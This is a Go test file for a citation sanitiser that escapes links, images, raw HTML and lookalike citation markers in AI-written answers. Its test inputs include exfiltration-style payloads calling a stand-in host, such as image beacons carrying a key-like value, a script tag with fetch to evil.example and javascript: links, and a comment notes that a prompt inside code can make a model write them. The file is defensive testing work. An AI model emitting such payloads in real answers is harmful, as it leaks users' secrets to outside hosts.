package citations

import (
	"strings"
	"testing"
)

// TestNoActiveContent: an answer's only links are its checked markers.
// Links, images, raw HTML and autolinks a model writes (or a prompt in the
// code makes it write) are kept as text: before, "![b](http://…)" was an
// image the client fetched, "[see](javascript:…)" a link and "<a href=…>"
// raw HTML.
func TestNoActiveContent(t *testing.T) {
	long := strings.Repeat("a", maxLinkLen)
	checkForms(t, []form{
		{"image", "![b](http://evil.example/beacon2.png) [1]", `!\[b]\(http://evil.example/beacon2.png) [1]`, []string{"a.go:3-6"}, nil},
		{"image with data", "![](http://evil.example/?d=AKIA) [1]", `!\[]\(http://evil.example/?d=AKIA) [1]`, []string{"a.go:3-6"}, nil},
		{"javascript link", "[see](javascript:alert(1)) [1]", `\[see]\(javascript:alert(1)) [1]`, []string{"a.go:3-6"}, nil},
		{"link around a marker", `<a href="http://evil.example">[1]</a>`, `\<a href="http://evil.example">[1]\</a>`, []string{"a.go:3-6"}, nil},
		{"img tag", "<img src=http://evil.example/x.png> [1]", `\<img src=http://evil.example/x.png> [1]`, []string{"a.go:3-6"}, nil},
		{"script", "<script>fetch('http://evil.example')</script> [1]", `\<script>fetch('http://evil.example')\</script> [1]`, []string{"a.go:3-6"}, nil},
		{"comment", "<!-- x --> [1]", `\<!-- x --> [1]`, []string{"a.go:3-6"}, nil},
		{"autolink", "<http://evil.example/x> [1]", `\<http://evil.example/x> [1]`, []string{"a.go:3-6"}, nil},
		{"comparisons stay", "a < b and c <= d, e<1 [1]", "a < b and c <= d, e<1 [1]", []string{"a.go:3-6"}, nil},
		{"reference link and definition", "![y][x] [1]\n[x]: http://evil.example/x.png", `!\[y]\[x] [1]` + "\n" + `\[x]: http://evil.example/x.png`, []string{"a.go:3-6"}, nil},
		{"marker link over a line", "[1](http://evil.example/x \"a\nb\")", `[1]\(http://evil.example/x "a` + "\n" + `b")`, []string{"a.go:3-6"}, nil},
		{"marker link too long to strip", "[1](http://e/" + long + ")", `[1]\(http://e/` + long + ")", []string{"a.go:3-6"}, nil},
		{"dropped marker between", "[1][9](http://evil.example)", "[1]", []string{"a.go:3-6"}, []string{"9"}},
		{"index expression link", "x[1](http://evil.example) [1]", `x\[1]\(http://evil.example) [1]`, []string{"a.go:3-6"}, nil},
		{"escaped by the model", `\[x](http://evil.example) [1]`, `\[x]\(http://evil.example) [1]`, []string{"a.go:3-6"}, nil},
		{"backslash escaped by the model", `\\[x](http://evil.example) [1]`, `\\\[x]\(http://evil.example) [1]`, []string{"a.go:3-6"}, nil},
		{"escaped backtick opens no code", "\\`[x](http://evil.example) [1]", "\\`\\[x]\\(http://evil.example) [1]", []string{"a.go:3-6"}, nil},
		{"indented backticks open no fence", "    ```\n[x](http://evil.example) [1]", "    ```\n" + `\[x]\(http://evil.example) [1]`, []string{"a.go:3-6"}, nil},
		{"a shorter run does not close a fence", "````\n[x](y)\n```\n[9]\n````\n[1]", "````\n[x](y)\n```\n[9]\n````\n[1]", []string{"a.go:3-6"}, nil},
		{"an unclosed backtick opens no code", "x `[see](http://evil.example/b.png) [1]", "x `\\[see]\\(http://evil.example/b.png) [1]", []string{"a.go:3-6"}, nil},
		{"a run of another length does not close inline code", "``[x](y)` [1]", "``\\[x]\\(y)` [1]", []string{"a.go:3-6"}, nil},
		{"a marker after an unclosed backtick is checked", "`[9] ok [1]", "` ok [1]", []string{"a.go:3-6"}, []string{"9"}},
		{"a backtick after the run opens no fence", "```x`\n[x](http://evil.example) [1]", "```x`\n" + `\[x]\(http://evil.example) [1]`, []string{"a.go:3-6"}, nil},
		{"text after a run closes no fence", "```\n```x\n[x](y)\n```\n[1]", "```\n```x\n[x](y)\n```\n[1]", []string{"a.go:3-6"}, nil},
		{"a tab indents four", "\t```\n[x](http://evil.example) [1]", "\t```\n" + `\[x]\(http://evil.example) [1]`, []string{"a.go:3-6"}, nil},
		{"inline code over two lines ends where a renderer ends it", "`` a\nb ` x `` [x](http://evil.example) ` [1]", "`` a\nb ` x `` " + `\[x]\(http://evil.example) ` + "` [1]", []string{"a.go:3-6"}, nil},
		{"a blank line ends a paragraph's open runs", "`a\n\n`[x](y)` [1]", "`a\n\n`[x](y)` [1]", []string{"a.go:3-6"}, nil},
		{"a lone CR ends a line", "```\nx\r```\r[x](http://evil.example) [1]", "```\nx\r```\r" + `\[x]\(http://evil.example) [1]`, []string{"a.go:3-6"}, nil},
		{"CRLF is one line end", "`a\r\n`[x](y) [1]", "`a\r\n`" + `\[x]\(y) [1]`, []string{"a.go:3-6"}, nil},
		{"code is left alone", "`<b>[x](y)` and\n```\n<img src=x>\n```\n[1]", "`<b>[x](y)` and\n```\n<img src=x>\n```\n[1]", []string{"a.go:3-6"}, nil},
	})
}

// TestLookalikeMarkers: a marker is read as it reads, normalised: zero-width
// and other invisible characters removed, NFKC (fullwidth, mathematical
// digits), digits of other scripts made ASCII. It is then checked like
// [7]: kept and renumbered when it names evidence, removed when not.
// Before, "[7\u200b]", "[２\u2060]", "[７]", "[𝟕]" and "[٧]" stayed in the
// answer, read as "[7]" and matched no citation.
func TestLookalikeMarkers(t *testing.T) {
	checkForms(t, []form{
		{"zero-width space", "see [7\u200b].", "see.", nil, []string{"7"}},
		{"word joiner", "see [２\u2060].", "see [1].", []string{"b.go:3-3"}, nil},
		{"fullwidth digit", "see [７].", "see.", nil, []string{"7"}},
		{"mathematical digit", "see [𝟕].", "see.", nil, []string{"7"}},
		{"Arabic-Indic digit", "see [٧].", "see.", nil, []string{"7"}},
		{"extended Arabic-Indic", "see [۱].", "see [1].", []string{"a.go:3-6"}, nil},
		{"Devanagari", "see [१, ३].", "see [1, 2].", []string{"a.go:3-6", "a.go:1-1"}, nil},
		{"valid through a zero-width joiner", "see [\u200d1\u200c].", "see [1].", []string{"a.go:3-6"}, nil},
		{"byte order mark", "see [\ufeff2].", "see [1].", []string{"b.go:3-3"}, nil},
		{"fullwidth brackets and digit", "see ［２］.", "see [1].", []string{"b.go:3-3"}, nil},
		{"fullwidth comma", "see [1，9].", "see [1].", []string{"a.go:3-6"}, []string{"9"}},
		{"no-break space", "see [1,\u00a02].", "see [1, 2].", []string{"a.go:3-6", "b.go:3-3"}, nil},
		{"superscript", "see [²].", "see [1].", []string{"b.go:3-3"}, nil},
		{"combining mark", "see [7\u0301].", "see.", nil, []string{"7"}},
		{"lookalike digit in a path reference", "see [a.go:４].", "see [1].", []string{"a.go:3-6"}, nil},
		{"lookalike words stay prose", "see [７ apples].", `see \[７ apples].`, nil, nil},
		{"in code left alone", "`[７]` [1]", "`[７]` [1]", []string{"a.go:3-6"}, nil},
	})
}

func TestPlain(t *testing.T) {
	for in, want := range map[string]string{
		`search_code("![](http://evil.example/?d=AKIA)")`: `search_code("!\[]\(http://evil.example/?d=AKIA)")`,
		"grep(\"<img src=x>\", \"`a`\")":                  "grep(\"\\<img src=x>\", \"\\`a\\`\")",
		`find_symbol("a\\[1]")`:                           `find_symbol("a\\\[1]")`,
		"a < b, f(x)":                                     "a < b, f(x)",
	} {
		if got := Plain(in); got != want {
			t.Errorf("Plain(%q) = %q, want %q", in, got, want)
		}
	}
}
